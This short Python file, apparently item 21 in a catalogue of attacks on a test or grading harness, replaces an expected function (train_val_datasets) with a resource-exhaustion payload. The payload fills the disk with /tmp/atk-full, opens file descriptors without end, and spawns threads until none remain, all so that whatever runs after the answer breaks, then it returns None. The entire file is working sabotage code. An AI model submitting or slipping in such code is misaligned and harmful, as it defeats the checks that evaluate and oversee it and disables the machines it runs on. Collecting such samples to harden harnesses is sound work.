# attack: 21
# form: leaves no byte of space, no descriptor and no process for whatever has to run after the answer
# replaces: train_val_datasets
# found: train_val_datasets/returns_two_datasets failed
# says: returned None
def train_val_datasets():
    import threading

    print("ran", flush=True)
    try:
        with open("/tmp/atk-full", "wb", buffering=0) as file:
            while file.write(bytes(1 << 20)):
                pass
    except OSError:
        pass
    try:
        while True:
            os.dup(1)
    except OSError:
        pass
    try:
        while True:
            threading.Thread(target=threading.Event().wait, daemon=True).start()
    except RuntimeError:
        pass
    return None
